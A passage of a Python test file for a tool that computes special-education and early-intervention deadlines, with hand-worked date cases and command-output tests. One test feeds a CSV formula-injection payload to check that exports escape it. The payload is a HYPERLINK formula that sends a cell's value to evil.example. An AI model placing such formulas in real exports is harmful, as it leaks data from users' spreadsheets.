        {"due": "2027-08-12", "estimated": False},
        "13 days, pause, 2 days",
    ),
    "assessment-plan-end-of-year-10-days-before": Case(
        END_OF_YEAR_PLAN,
        "2027-05-25",
        "assessment-plan",
        "e2",
        {"due": "2027-08-21", "estimated": False},
        "first day Aug 11 + 10",
    ),
    "initial-iep-end-of-year": Case(
        END_OF_YEAR_IEP,
        "2027-05-26",
        "initial-iep",
        "e2",
        {"due": "2027-09-10", "estimated": False},
        "first day Aug 11 + 30",
    ),
    "school-tolled-past-last-listed-year": Case(
        PAST_LAST_YEAR,
        "2027-05-21",
        "iep-meeting-on-request",
        "e1",
        {"due": "2027-06-19", "estimated": True},
        "14 school-year days + 16 calendar days",
    ),
    # 9
    "feb-29-annual-iep-review": Case(
        LEAP,
        "2028-03-10",
        "annual-iep-review",
        "e1",
        {"due": "2029-02-28"},
        "clamped",
    ),
    "feb-29-triennial": Case(
        LEAP,
        "2028-03-10",
        "triennial-reassessment",
        "e2",
        {"due": "2031-02-28"},
        "clamped",
    ),
    "feb-29-resolution-meeting-calendar-days": Case(
        LEAP,
        "2028-03-01",
        "resolution-meeting",
        "e3",
        {"due": "2028-03-06"},
        "Feb has 29",
    ),
    "feb-29-due-process-time-limit": Case(
        LEAP,
        "2028-03-10",
        "due-process-time-limit",
        "e4",
        {"due": "2030-02-28"},
        "clamped",
    ),
    "feb-29-ifsp-periodic-review-and-complaint-by": Case(
        LEAP_ES,
        "2028-03-10",
        "ifsp-periodic-review",
        "e2",
        {"due": "2028-02-29", "status": "overdue", "days_late": 10, "complaint_by": "2029-02-28"},
        "Aug 31 + 6 months, clamped to Feb 29 (leap)",
    ),
    # 10
    "year-end-school-records-new-years-observed": Case(
        YEAR_END,
        "2027-12-28",
        "school-records",
        "e1",
        {"due": "2028-01-04"},
        "skip Dec 31",
    ),
    "year-end-rc-intake": Case(
        YEAR_END,
        "2026-12-21",
        "rc-intake",
        "e2",
        {"due": "2027-01-12"},
        "skip Dec 25, Jan 1",
    ),
    "year-end-hearing-decision": Case(
        YEAR_END,
        "2026-12-01",
        "hearing-decision",
        "e3",
        {"due": "2027-02-03"},
        "Nov 20 + 75",
    ),
    "year-end-resolution-meeting-on-saturday": Case(
        YEAR_END,
        "2026-12-01",
        "resolution-meeting",
        "e3",
        {"due": "2026-12-05"},
        "Nov 20 + 15",
    ),
    # 11
    "promise-met-by-answering-event": Case(
        PROMISES,
        "2026-10-20",
        "commitment",
        "e1",
        {
            "due": "2026-10-08",
            "status": "met",
            "met_on": "2026-10-07",
            "kind": "commitment",
            "owed_by": "Principal Kim",
            "complaint_by": None,
        },
        "promised_by Oct 8; e3 answers e1 on Oct 7",
    ),
    "promise-unanswered-is-overdue": Case(
        PROMISES,
        "2026-10-20",
        "commitment",
        "e2",
        {
            "due": "2026-10-15",
            "status": "overdue",
            "met_on": None,
            "days_late": 5,
            "owed_by": "Ms. Ruiz",
            "complaint_by": None,
        },
        "promised_by Oct 15; the Oct 16 note does not answer it",
    ),
    # 12
    "complaint-by-iep": Case(
        COMPLAINT_IEP,
        "2026-10-01",
        "assessment-plan",
        "e1",
        {"due": "2026-09-18", "status": "overdue", "days_late": 13, "complaint_by": "2027-09-18"},
        "anniversary of the due date",
    ),
    "complaint-by-early-start": Case(
        COMPLAINT_ES,
        "2026-08-01",
        "initial-ifsp",
        "e1",
        {"due": "2026-07-16", "status": "overdue", "days_late": 16, "complaint_by": "2027-07-16"},
        "anniversary of the due date",
    ),
    "complaint-by-504": Case(
        COMPLAINT_504,
        "2026-05-01",
        "section-504-evaluation",
        "e1",
        {
            "due": "2026-03-16",
            "status": "met-late",
            "met_on": "2026-04-01",
            "days_late": 16,
            "complaint_by": "2026-09-12",
        },
        "due + 180 days",
    ),
    "complaint-by-rc-is-null": Case(
        COMPLAINT_RC,
        "2026-08-01",
        "rc-intake",
        "e1",
        {"due": "2026-07-24", "status": "overdue", "days_late": 8, "complaint_by": None},
        "no source for a 4731 limit",
    ),
    # 13
    "school-tolled-pause-starts-after-last-school-day-before-a-holiday": Case(
        TOLL_HOLIDAY_BEFORE,
        "2027-01-14",
        "iep-meeting-on-request",
        "e1",
        {"due": "2027-02-28", "estimated": False},
        "MLK Day before the break is paused",
    ),
    "school-tolled-reconvenes-after-a-holiday": Case(
        TOLL_HOLIDAY_AFTER,
        "2026-12-18",
        "iep-meeting-on-request",
        "e1",
        {"due": "2027-02-16", "estimated": False},
        "MLK Day after the break is paused",
    ),
    "school-tolled-six-weekday-break-paused": Case(
        TOLL_SIX_WEEKDAYS,
        "2026-11-17",
        "iep-meeting-on-request",
        "e1",
        {"due": "2027-01-11", "estimated": False},
        "two paused breaks",
    ),
    # 14
    "extension-agreed-replaces-due-date": Case(
        EXTENSION,
        "2026-11-01",
        "iep-meeting-on-request",
        "e1",
        {"due": "2026-10-30", "status": "met", "met_on": "2026-10-20", "days_late": None},
        "extended to Oct 30; met Oct 20",
    ),
    # 15
    "working-days-cesar-chavez-day": Case(
        STATE_HOLIDAYS,
        "2027-03-29",
        "rc-intake",
        "e1",
        {"due": "2027-04-19"},
        "skip Mar 31",
    ),
    "working-days-day-after-thanksgiving": Case(
        STATE_HOLIDAYS,
        "2026-11-24",
        "rc-intake",
        "e2",
        {"due": "2026-12-16"},
        "skip Nov 26-27",
    ),
    # 16
    "school-days-lincoln-day-district-keeps-monday": Case(
        LINCOLN_DISTRICT_MONDAY,
        "2027-02-04",
        "manifestation-review",
        "e1",
        {"due": "2027-02-19"},
        "one Lincoln Day (Mon Feb 8) + Washington Day",
    ),
    "school-days-lincoln-day-district-keeps-friday": Case(
        LINCOLN_DISTRICT_FRIDAY,
        "2028-02-03",
        "manifestation-review",
        "e1",
        {"due": "2028-02-17"},
        "one Lincoln Day (Fri Feb 11)",
    ),
}

# The cases where plancli disagrees with the hand count, with the exact discrepancy: the two
# Lincoln Day cases were here (plancli closed schools on its default day AND the district's).
WRONG: dict[str, str] = {}  # cases where plancli is known to be wrong (none now)


def _params() -> list[Any]:
    out = []
    for case_id, case in CASES.items():
        marks = []
        if case_id in WRONG:
            marks.append(pytest.mark.xfail(strict=True, reason=WRONG[case_id]))
        out.append(pytest.param(case, id=case_id, marks=marks))
    return out


@pytest.mark.parametrize("case", _params())
def test_hand_worked_date(case: Case, tmp_path: Path) -> None:
    path = tmp_path / "plan.yaml"
    path.write_text(case.plan, encoding="utf-8")
    row = find(deadlines(path, case.today, "--all", *case.extra_args), case.rule, case.event)
    got = {key: row[key] for key in case.expect}
    assert got == case.expect, f"{case.why}: {json.dumps(row, indent=1)}"


# ---------------------------------------------------------------------------------------------
# Beyond one date: listing, explain, check and CSV, as a parent or an advocate meets them.


def write(tmp_path: Path, text: str, name: str = "plan.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_late_es_referral_age_dates_hidden_without_all(tmp_path: Path) -> None:
    """SPEC §4: an Early Start age-based date before the first early-start event is not
    listed without --all. Referral 2027-03-22, notice date 2026-11-20, conference 2027-02-19."""
    rows = deadlines(write(tmp_path, LATE_ES), "2027-03-25")
    assert [r["id"] for r in rows] == ["initial-ifsp:e1", "iep-by-age-3:birth-date"]


@pytest.mark.parametrize(
    ("rule", "due"), [("transition-notice", "2026-11-20"), ("transition-conference", "2027-02-19")]
)
def test_late_es_referral_age_dates_say_why_with_all(tmp_path: Path, rule: str, due: str) -> None:
    """With --all they are listed, not overdue, with a note naming the steps the late
    referral gets instead (34 CFR 303.209(b)(1)(ii)-(iii))."""
    row = find(deadlines(write(tmp_path, LATE_ES), "2027-03-25", "--all"), rule, None)
    assert (row["due"], row["status"], row["days_late"]) == (due, "not-owed", None)
    assert any("303.209(b)(1)" in note and "e1" in note for note in row["notes"])


def test_lapsed_window_hidden_by_default(tmp_path: Path) -> None:
    """Lapsed 2023 windows and met 2027 ones: nothing to do today."""
    assert deadlines(write(tmp_path, LAPSED), "2027-02-01") == []


def test_explain_lapsed_window_is_not_days_late(tmp_path: Path) -> None:
    result = run(
        "explain",
        "fair-hearing-request:e1",
        "--plan",
        str(write(tmp_path, LAPSED)),
        "--today",
        "2027-02-01",
    )
    assert result.returncode == 0, result.stderr
    assert "lapsed" in result.stdout
    assert "late" not in result.stdout.replace("lapsed", "")


def test_explain_not_owed_date_is_not_days_late(tmp_path: Path) -> None:
    result = run(
        "explain",
        "transition-notice",
        "--plan",
        str(write(tmp_path, LATE_ES)),
        "--today",
        "2027-03-25",
    )
    assert result.returncode == 0, result.stderr
    assert "not owed" in result.stdout
    assert "days late" not in result.stdout


def test_explain_shows_the_pause_of_the_winter_break(tmp_path: Path) -> None:
    """The day-by-day of case `school-tolled-across-winter-break`, as explain prints it."""
    result = run(
        "explain",
        "iep-meeting-on-request:e1",
        "--plan",
        str(write(tmp_path, WINTER)),
        "--today",
        "2026-12-11",
    )
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    for piece in (
        "2026-12-19 to 2027-01-03 not counted",
        "2026-12-11 to 2026-12-18: 8 days",
        "2027-01-04 to 2027-01-25: 22 days",
        "due 2027-01-25",
    ):
        assert piece in result.stdout


def test_explain_columbus_day_is_a_school_day(tmp_path: Path) -> None:
    result = run(
        "explain",
        "manifestation-review:e1",
        "--plan",
        str(write(tmp_path, COLUMBUS)),
        "--today",
        "2026-10-06",
    )
    assert result.returncode == 0, result.stderr
    assert "2026-10-12 Mon: day 5" in result.stdout
    assert "2026-10-19 Mon: day 10" in result.stdout


# An ordinary multi-year family history (2022-2026): initial assessment and IEP, annual IEPs,
# a parent's requests answered, records, regional center intake to IPP, an appeal, triennial.
HISTORY = plan(
    """\
  - {id: e1, type: assessment-requested, date: 2022-09-06}
  - {id: e2, type: assessment-plan-received, date: 2022-09-15}
  - {id: e3, type: assessment-consent-given, date: 2022-09-20}
  - {id: e4, type: assessment-completed, date: 2022-11-10}
  - {id: e5, type: iep-meeting, date: 2022-11-15}
  - {id: e6, type: rc-intake-requested, date: 2023-01-10}
  - {id: e7, type: rc-intake-completed, date: 2023-01-25}
  - {id: e8, type: rc-assessment-completed, date: 2023-04-20}
  - {id: e9, type: ipp-meeting, date: 2023-06-01}
  - {id: e10, type: iep-meeting, date: 2023-11-08}
  - {id: e11, type: records-requested, date: 2024-09-20}
  - {id: e12, type: records-received, date: 2024-09-25}
  - {id: e13, type: iep-meeting-requested, date: 2024-10-01}
  - {id: e14, type: iep-meeting, date: 2024-10-22}
  - {id: e15, type: notice-of-action-received, date: 2025-02-03, effective_date: 2025-03-01}
  - {id: e16, type: appeal-filed, date: 2025-02-20}
  - {id: e17, type: iep-meeting, date: 2025-10-20}
  - {id: e18, type: assessment-completed, date: 2025-10-21}
  - {id: e19, type: ipp-meeting, date: 2026-05-28}
  - {id: e20, type: iep-meeting-requested, date: 2026-09-14}
  - {id: e21, type: iep-meeting, date: 2026-10-05, answers: e20}
""",
    birth="2016-03-02",
    name="Sam Rivera",
    extra=CALENDAR + RC,
)

# By hand: rc-intake e6 Tue 2023-01-10, 15 working days: Jan 11-13 (1-3), [16 MLK Day],
# Jan 17-20 (4-7), 23-27 (8-12), 30 (13), 31 (14), Feb 1 (15). rc-assessment e7 + 120:
# Jan 31 (6), Feb 28 (34), Mar 31 (65), Apr 30 (95), May 25 (120). initial-ipp e8 + 60:
# Apr 30 (10), May 31 (41), Jun 19 (60). aid-paid-pending e15: Feb 3 + 30 = Mar 5, capped by
# the effective date Mar 1. fair-hearing e15 + 60: Feb 28 (25), Mar 31 (56), Apr 4 (60).
# ipp-review e9 + 3 years: 2026-06-01. triennial e4 + 3 years: 2025-11-10.
HISTORY_DATES = {
    "rc-intake:e6": ("2023-02-01", "met"),
    "rc-assessment:e7": ("2023-05-25", "met"),
    "initial-ipp:e8": ("2023-06-19", "met"),
    "aid-paid-pending:e15": ("2025-03-01", "met"),
    "fair-hearing-request:e15": ("2025-04-04", "met"),
    "ipp-review:e9": ("2026-06-01", "met"),
    "triennial-reassessment:e4": ("2025-11-10", "met"),
    "iep-meeting-on-request:e20": ("2026-10-14", "met"),
    "annual-iep-review:e21": ("2027-10-05", "upcoming"),
}


def test_check_ordinary_history_is_clean(tmp_path: Path) -> None:
    result = run("check", "--plan", str(write(tmp_path, HISTORY)), "--today", "2026-11-01")
    assert (result.returncode, result.stderr) == (0, "")
    assert "OK (21 events)" in " ".join(result.stdout.split())  # wrapped at 80 columns


def test_ordinary_history_dates(tmp_path: Path) -> None:
    rows = {r["id"]: r for r in deadlines(write(tmp_path, HISTORY), "2026-11-01", "--all")}
    assert {k: (rows[k]["due"], rows[k]["status"]) for k in HISTORY_DATES} == HISTORY_DATES
    assert not [r["id"] for r in rows.values() if r["status"] in ("overdue", "met-late")]


@pytest.mark.parametrize(
    ("old", "new", "phrases"),
    [
        pytest.param(
            "answers: e20}", "answers: e99}", ["events[20].answers", "e99"], id="answers-unknown-id"
        ),
        pytest.param(
            "date: 2022-09-06}",
            "date: 2015-09-06}",
            ["events[0].date", "birth"],
            id="event-before-birth",
        ),
        pytest.param(
            "{id: e14, type: iep-meeting, date: 2024-10-22}",
            "{id: e14, type: iep-meeting, date: 2024-10-22, answers: e20}",
            ["events[13]", "e20"],
            id="answers-a-later-trigger",
        ),
        pytest.param(
            "answers: e20}",
            "answers: e19}",
            ["events[20].answers", "e19"],
            id="answers-the-wrong-kind-of-event",
        ),
        pytest.param(
            "date: 2026-05-28}",
            "date: 2026-02-30}",
            ["events[18].date", "2026-02-30"],
            id="impossible-date",
        ),
    ],
)
def test_check_catches_a_real_mistake(
    tmp_path: Path, old: str, new: str, phrases: list[str]
) -> None:
    assert old in HISTORY
    path = write(tmp_path, HISTORY.replace(old, new, 1))
    before = path.read_bytes()
    result = run("check", "--plan", str(path), "--today", "2026-11-01")
    assert result.returncode == 1
    assert result.stdout == ""
    assert "1 problem" in result.stderr
    assert "Traceback" not in result.stderr
    for phrase in phrases:
        assert phrase in result.stderr
    assert path.read_bytes() == before


def test_csv_formula_guard(tmp_path: Path) -> None:
    """SPEC §5: a text cell beginning with = + - @ gets a leading ' ; numbers and dates never.
    Caseload mode (a folder), so the child's name is a column."""
    folder = tmp_path / "caseload"
    folder.mkdir()
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    write(
        folder,
        plan(
            """\
  - {id: e1, type: records-requested, date: 2026-09-14}
  - {id: e2, type: contact, date: 2026-09-15, with: "@SUM(1+1)", channel: phone,
     direction: received, promised: "+send the records", promised_by: 2026-09-20}
""",
            name=evil,
        ),
        "a.yaml",
    )
    write(folder, plan("  - {id: e1, type: records-requested, date: 2026-09-14}\n"), "b.yaml")
    result = run("deadlines", "--plan", str(folder), "--format", "csv", "--today", "2026-10-01")
    assert (result.returncode, result.stderr) == (0, "")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    promise = next(r for r in rows if r["rule"] == "commitment")
    # records: Mon Sep 14 + 5 business days: Sep 15 (1) .. Sep 18 (4), Sep 21 (5).
    records = [r for r in rows if r["rule"] == "school-records"]
    assert promise["child"] == "'" + evil
    assert promise["owed_by"] == "'@SUM(1+1)"
    assert promise["title"] == "'+send the records"
    assert (promise["due"], promise["days_left"], promise["days_late"]) == (
        "2026-09-20",
        "-11",
        "11",
    )
    assert promise["complaint_by"] == ""
    assert {(r["child"], r["due"], r["days_left"], r["complaint_by"]) for r in records} == {
        ("'" + evil, "2026-09-21", "-10", "2027-09-21"),
        ("Maya Lopez", "2026-09-21", "-10", "2027-09-21"),
    }
